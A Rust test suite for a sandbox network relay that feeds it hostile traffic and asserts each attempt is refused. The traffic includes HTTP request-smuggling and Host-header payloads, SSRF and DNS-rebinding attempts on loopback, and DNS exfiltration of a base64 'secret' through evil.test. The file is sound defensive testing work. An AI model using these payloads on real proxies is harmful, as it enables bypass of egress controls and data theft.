//! Attacks on the relay from inside a namespace, byte by byte.

use crate::network::namespace::Namespace;
use crate::network::server::{Names, Server, domains, ok};

/// Sends bytes to a name and prints the answer.
fn raw(host: &str, port: u16, bytes: &str) -> String {
    format!(
        "import socket\ns = socket.create_connection(('{host}', {port}), 8)\ns.settimeout(8)\ntry:\n s.sendall({bytes})\n while True:\n  b = s.recv(65536)\n  if not b: break\n  print(b.decode(), end='')\nexcept OSError as e: print('cut')"
    )
}

struct World {
    good: Server,
    evil: Server,
    inside: Namespace,
}

fn world() -> Option<World> {
    let (good, evil) = (
        Server::start("127.0.0.1", |_| ok("hello")),
        Server::saying("127.0.0.3", "secret"),
    );
    let names = Names::of(&[
        ("a.test", &["127.0.0.1"]),
        ("b.test", &["127.0.0.1"]),
        ("inner.test", &["127.0.0.3"]),
    ]);
    let port = good.port();
    let list = domains(&[
        &format!("a.test:{port}"),
        &format!("b.test:{port}"),
        &good.entry(),
        &format!("inner.test:{}", evil.port()),
    ]);
    let inside = Namespace::new(&list, names)?;
    Some(World { good, evil, inside })
}

#[tokio::test(flavor = "multi_thread")]
async fn a_request_for_another_host_than_the_connections_is_refused() {
    let Some(World {
        good,
        evil,
        mut inside,
    }) = world()
    else {
        return;
    };
    let port = good.port();
    for request in [
        format!("GET / HTTP/1.1\\r\\nHost: b.test:{port}\\r\\n\\r\\n"),
        "GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n".to_owned(),
        "GET / HTTP/1.1\\r\\nHost: a.test\\0.evil.test\\r\\n\\r\\n".to_owned(),
        "GET / HTTP/1.1\\r\\nHost: a.test.evil.test\\r\\n\\r\\n".to_owned(),
        "GET / HTTP/1.1\\r\\nHost: a.test:1\\r\\n\\r\\n".to_owned(),
        "GET / HTTP/1.1\\r\\n\\r\\n".to_owned(),
        "GET / HTTP/1.1\\r\\nHost: a.test\\r\\nHost: evil.test\\r\\n\\r\\n".to_owned(),
        "GET http://evil.test/ HTTP/1.1\\r\\nHost: a.test\\r\\n\\r\\n".to_owned(),
        "GET http://a.test@evil.test/ HTTP/1.1\\r\\nHost: a.test\\r\\n\\r\\n".to_owned(),
        format!("CONNECT 127.0.0.3:{} HTTP/1.1\\r\\nHost: a.test\\r\\n\\r\\n", evil.port()),
        format!("CONNECT a.test:{port} HTTP/1.1\\r\\nHost: a.test:{port}\\r\\n\\r\\n"),
        "POST / HTTP/1.1\\r\\nHost: a.test\\r\\nContent-Length: 3\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n".to_owned(),
        "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n".to_owned(),
        "SSH-2.0-x\\r\\n".to_owned(),
        "\\x05\\x01\\x00".to_owned(),
        "\\x04\\x01\\x00\\x50\\x00\\x00\\x00\\x01x\\x00a.test\\x00.evil.test\\x00".to_owned(),
    ] {
        let (_, output) = inside.python(&raw("a.test", port, &format!("b'{request}'"))).await;
        assert!(output.is_empty() || output == "cut\n", "{request}: {output}");
    }
    good.was_not_reached();
    evil.was_not_reached();
    let refused = inside.refused();
    for why in [
        "(CONNECT)",
        "host \"b.test\"",
        "host \"evil.test\"",
        "exactly one Host",
        "another port",
        "neither HTTP nor TLS",
    ] {
        assert!(
            refused
                .iter()
                .any(|denied| denied.what == format!("a.test:{port}") && denied.why.contains(why)),
            "{why}: {refused:?}"
        );
    }
    // The same requests, done right.
    for request in [
        "GET / HTTP/1.1\\r\\nHost: A.test.\\r\\n\\r\\n",
        "GET http://a.test/ HTTP/1.1\\r\\nHost: a.test\\r\\n\\r\\n",
        "GET / HTTP/1.0\\r\\nHost:a.test\\r\\n\\r\\n",
    ] {
        let (_, output) = inside
            .python(&raw("a.test", port, &format!("b'{request}'")))
            .await;
        assert!(output.ends_with("hello"), "{request}: {output}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn one_connection_carries_one_request() {
    let Some(World {
        good, mut inside, ..
    }) = world()
    else {
        return;
    };
    let port = good.port();
    let second = format!("GET /second HTTP/1.1\\r\\nHost: b.test:{port}\\r\\n\\r\\n");
    for first in [
        "GET / HTTP/1.1\\r\\nHost: a.test\\r\\nConnection: keep-alive\\r\\n\\r\\n",
        "POST / HTTP/1.1\\r\\nHost: a.test\\r\\nContent-Length: 3\\r\\n\\r\\nabc",
        "POST / HTTP/1.1\\r\\nHost: a.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n3;x=y\\r\\nabc\\r\\n0\\r\\nTrailer: x\\r\\n\\r\\n",
        "GET / HTTP/1.1\\r\\nHost: a.test\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n",
    ] {
        let (_, output) = inside
            .python(&raw("a.test", port, &format!("b'{first}{second}'")))
            .await;
        assert!(
            output.ends_with("hello") && output.matches("HTTP/1.1 200").count() == 1,
            "{first}: {output}"
        );
    }
    let seen = good.seen();
    assert_eq!(seen.len(), 4);
    assert!(
        seen.iter().all(|request| !request.contains("second")
            && !request.contains("Upgrade")
            && request.contains("Connection: close")),
        "{seen:?}"
    );
    // An invalid body is not forwarded beyond the point where it can be parsed.
    let bad = "POST / HTTP/1.1\\r\\nHost: a.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n-1\\r\\nGET /second HTTP/1.1\\r\\nHost: b.test\\r\\n\\r\\n";
    inside
        .python(&raw("a.test", port, &format!("b'{bad}'")))
        .await;
    assert!(
        good.seen()
            .iter()
            .all(|request| !request.contains("second"))
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_name_that_stands_for_a_private_address_is_refused_on_connect() {
    let Some(World {
        good,
        evil,
        mut inside,
    }) = world()
    else {
        return;
    };
    let (code, output) = inside
        .run(&[
            "curl",
            "-sS",
            "-m10",
            &format!("http://inner.test:{}/", evil.port()),
        ])
        .await;
    assert!(code != 0, "{output}");
    evil.was_not_reached();
    let refused = inside.refused();
    assert!(
        refused.iter().any(|denied| denied
            .why
            .contains("host \"inner.test\" is a loopback address (127.0.0.3)")),
        "{refused:?}"
    );
    assert_eq!(
        inside
            .run(&[
                "curl",
                "-sS",
                "-m10",
                &format!("http://b.test:{}/", good.port())
            ])
            .await,
        (0, "hello".to_owned())
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_name_that_changes_its_address_and_an_answer_that_leads_away_reach_nothing_else() {
    let (evil, names) = (Server::saying("127.0.0.3", "secret"), Names::default());
    let away = format!("http://evil.test:{}/", evil.port());
    let good = Server::start("127.0.0.1", move |request| {
        if request.contains("/away") {
            crate::network::server::redirect(302, &away)
        } else {
            ok("hello")
        }
    });
    let entries = [
        format!("a.test:{}", good.port()),
        format!("a.test:{}", evil.port()),
        good.entry(),
    ];
    names.and("a.test", &[&["127.0.0.1"], &["127.0.0.1"], &["127.0.0.3"]]);
    let Some(mut inside) = Namespace::new(&domains(&entries.each_ref().map(String::as_str)), names)
    else {
        return;
    };
    let (near, far) = (
        format!("http://a.test:{}/", good.port()),
        format!("http://a.test:{}/", evil.port()),
    );
    assert_eq!(
        inside.run(&["curl", "-sS", "-m10", &near]).await,
        (0, "hello".to_owned())
    );
    let (code, output) = inside
        .run(&["curl", "-sSL", "-m10", &format!("{near}away")])
        .await;
    assert!(code != 0 && !output.contains("secret"), "{output}");
    let (code, output) = inside.run(&["curl", "-sS", "-m10", &far]).await;
    assert!(code != 0 && !output.contains("secret"), "{output}");
    evil.was_not_reached();
    let refused = inside.refused();
    assert!(
        refused.iter().any(|denied| denied.what == "evil.test"),
        "{refused:?}"
    );
    assert!(
        refused
            .iter()
            .any(|denied| denied.why.contains("(127.0.0.3)")),
        "{refused:?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn names_carry_nothing_out_and_datagrams_go_nowhere() {
    let Some(World {
        good, mut inside, ..
    }) = world()
    else {
        return;
    };
    let script = "import socket\n\
        def ask(name):\n try: return socket.getaddrinfo(name, 80)[0][4][0]\n except OSError: return 'none'\n\
        print(ask('c2VjcmV0.evil.test'), ask('xn--evil-.test'), ask('a.test')[:3])\n\
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(20)\n\
        for port in (443, 123, 5353):\n u.connect(('8.8.8.8', port))\n try:\n  u.send(b'x'); print(u.recv(9))\n except OSError as e: print(type(e).__name__)";
    let (code, output) = inside.python(script).await;
    let lines: Vec<&str> = output.lines().collect();
    assert_eq!(
        (code, lines.len(), &lines[1..]),
        (0, 4, ["ConnectionRefusedError"; 3].as_slice()),
        "{output}"
    );
    assert!(
        lines[0] == "none none 198" || lines[0] == "none none fd6",
        "{output}"
    );
    assert!(
        inside
            .refused()
            .iter()
            .any(|denied| denied.what == "c2VjcmV0.evil.test".to_lowercase())
    );
    // Over TCP, too; and the answer for an allowed name contains only its address.
    let script = "import socket\n\
        def ask(name, kind):\n s = socket.create_connection(('1.1.1.1', 53), 5); q = bytes([0,7,1,0,0,1,0,0,0,0,0,0]) + b''.join(bytes([len(p)]) + p for p in name.split(b'.')) + bytes([0,0,kind,0,1])\n s.sendall(len(q).to_bytes(2, 'big') + q); n = int.from_bytes(s.recv(2), 'big'); r = s.recv(n); return r[3] & 15, r[7]\n\
        print(ask(b'a.test', 1), ask(b'a.test', 28), ask(b'a.test', 16), ask(b'secret.evil.test', 16), ask(b'a.test\\0', 1))";
    assert_eq!(
        inside.python(script).await,
        (0, "(0, 1) (0, 1) (0, 0) (3, 0) (3, 0)\n".to_owned())
    );
    good.was_not_reached();
}

#[tokio::test(flavor = "multi_thread")]
async fn many_connections_wait_their_turn_and_refusals_are_quick() {
    let Some(World {
        good, mut inside, ..
    }) = world()
    else {
        return;
    };
    let port = good.port();
    let script = format!(
        "import socket, time\n\
         held = [socket.create_connection(('a.test', {port}), 5) for _ in range(200)]\n\
         t = time.time()\n\
         try: s = socket.create_connection(('8.8.8.8', {port}), 5); s.settimeout(5); print(s.recv(1))\n\
         except OSError as e: print(type(e).__name__)\n\
         print(time.time() - t < 4)\n\
         for h in held: h.close()\n\
         import urllib.request; print(urllib.request.urlopen('http://a.test:{port}/', None, 10).read().decode())"
    );
    assert_eq!(
        inside.python(&script).await,
        (0, "ConnectionResetError\nTrue\nhello\n".to_owned())
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_relay_that_is_dropped_ends_its_connections() {
    let slow = Server::with("127.0.0.1", |stream, _| {
        crate::network::server::read_request(stream)?;
        std::thread::sleep(std::time::Duration::from_secs(20));
        Ok(())
    });
    let list = domains(&[&format!("a.test:{}", slow.port()), &slow.entry()]);
    let Some(mut inside) = Namespace::new(&list, Names::of(&[("a.test", &["127.0.0.1"])])) else {
        return;
    };
    inside.stop_relay();
    tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    let (code, output) = inside
        .run(&[
            "curl",
            "-sS",
            "-m5",
            &format!("http://127.0.0.1:{}/", slow.port()),
        ])
        .await;
    assert!(code == 7, "{code} {output}");
    slow.was_not_reached();
}
